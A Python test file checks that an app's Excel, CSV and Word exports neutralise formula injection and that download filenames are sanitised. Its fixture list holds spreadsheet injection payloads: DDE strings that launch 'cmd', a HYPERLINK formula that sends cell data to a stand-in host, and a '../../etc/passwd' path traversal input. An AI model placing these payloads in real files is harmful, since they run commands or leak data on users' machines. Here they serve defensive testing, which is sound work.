"""Every Excel, CSV and Word file the app writes keeps hostile text (beginning with = + - @ tab
or CR) as text, never a formula; download names are built from safe characters."""
import csv
import io
import zipfile

import openpyxl
import pytest

from analysis.figures import compute
from analysis.outputs.csv import units_table_csv
from analysis.outputs.safety import neutralize_formula, safe_filename
from analysis.outputs.xlsx import appendix_xlsx, summary_xlsx, units_table_xlsx
from tests.support.frames import frame_from

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.fixture(scope="module")
def frame():
    recs = []
    for i, name in enumerate(HOSTILE + ["Phòng Nội vụ"]):
        recs.append({"period": "2021-03", "unit": name,
                     "block": "department" if i % 2 else "commune",
                     "district": HOSTILE[i % len(HOSTILE)], "sent": 10 + i, "signed": 5 + i})
    return frame_from(recs)


@pytest.fixture(scope="module")
def summary(frame):
    return compute(frame, None, None, 80.0)


def _cells(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c


def _check_xlsx(data: bytes, must_have=HOSTILE):
    values = set()
    for title, c in _cells(data):
        assert c.data_type != "f", (title, c.coordinate, c.value)
        if isinstance(c.value, str):
            # a CR is stored as the OOXML escape _x000D_ (Excel and calamine decode it, openpyxl
            # does not)
            values.add(c.value.replace("_x000D_", "\r"))
    # nothing written as a formula, and the text comes back exactly as it was
    missing = [h for h in must_have if h not in values]
    assert not missing, missing
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_summary_workbook_keeps_hostile_text_as_text(frame):
    _check_xlsx(summary_xlsx(frame, target=80.0))


def test_units_table_and_appendix_keep_hostile_text_as_text(summary):
    _check_xlsx(units_table_xlsx(summary.units, title="=Bảng đơn vị"), HOSTILE + ["=Bảng đơn vị"])
    names = {c.value for _, c in _cells(appendix_xlsx(summary)) if isinstance(c.value, str)}
    for _, c in _cells(appendix_xlsx(summary)):
        assert c.data_type != "f"
    assert any(h in names for h in HOSTILE)


def test_units_csv_prefixes_formula_text_with_a_quote(summary):
    text = units_table_csv(summary.units).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    cells = [c for r in rows for c in r]
    for h in HOSTILE:
        assert "'" + h in cells, h
        assert h not in cells, h
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(c.startswith("-")
                   and not c.lstrip("-").replace(",", "").replace(".", "").isdigit()
                   for c in cells)


def test_letter_docx_holds_the_names_as_plain_text(frame):
    from analysis.outputs.letter import draft_docx

    data = draft_docx(frame, target=80.0)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("word/document.xml").decode("utf-8")
    assert "instrText" not in xml and "fldSimple" not in xml and "DDE" not in xml
    assert ("HYPERLINK(&quot;http://example.invalid" in xml
            or 'HYPERLINK("http://example.invalid' in xml)


def test_pandas_fallback_to_excel_would_keep_text(frame):
    """Should a page ever write a frame with DataFrame.to_excel, this is the safe way: pandas'
    xlsxwriter engine with strings_to_formulas off."""
    import pandas as pd

    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="xlsxwriter",
                        engine_kwargs={"options": {"strings_to_formulas": False}}) as xw:
        pd.DataFrame({"unit": HOSTILE}).to_excel(xw, index=False)
    _check_xlsx(buf.getvalue())


@pytest.mark.parametrize("text", HOSTILE + ["Phòng Nội vụ", None, 12])
def test_neutralize_formula(text):
    out = neutralize_formula(text)
    if isinstance(text, str) and text[:1] in "=+-@\t\r":
        assert out == "'" + text
    else:
        assert out == text


@pytest.mark.parametrize("text,expected", [
    ("Tháng 3/2021 – Quan Sơn", "thang_3_2021_quan_son"),
    ("../../etc/passwd", "etc_passwd"),
    ("=HYPERLINK(\"x\")", "hyperlink_x"),
    ("", "ky_so"), ("....", "ky_so"), ("Đơn vị: UBND xã Cẩm Tân", "don_vi_ubnd_xa_cam_tan"),
])
def test_safe_filename(text, expected):
    assert safe_filename(text) == expected
    assert safe_filename(text, ".xlsx") == expected + ".xlsx"
    assert set(safe_filename(text)) <= set("abcdefghijklmnopqrstuvwxyz0123456789._-")


def test_no_page_writes_a_frame_with_pandas_default_writers():
    """pandas' to_excel writes '=1+1' as a formula and to_csv writes it as is: exports go
    through analysis/export_xlsx.py instead."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    found = [str(p.relative_to(root)) for base in ("analysis", "ui", "pages")
             for p in (root / base).rglob("*.py")
             if re.search(r"\.to_(excel|csv)\(", p.read_text(encoding="utf-8"))]
    assert found == []
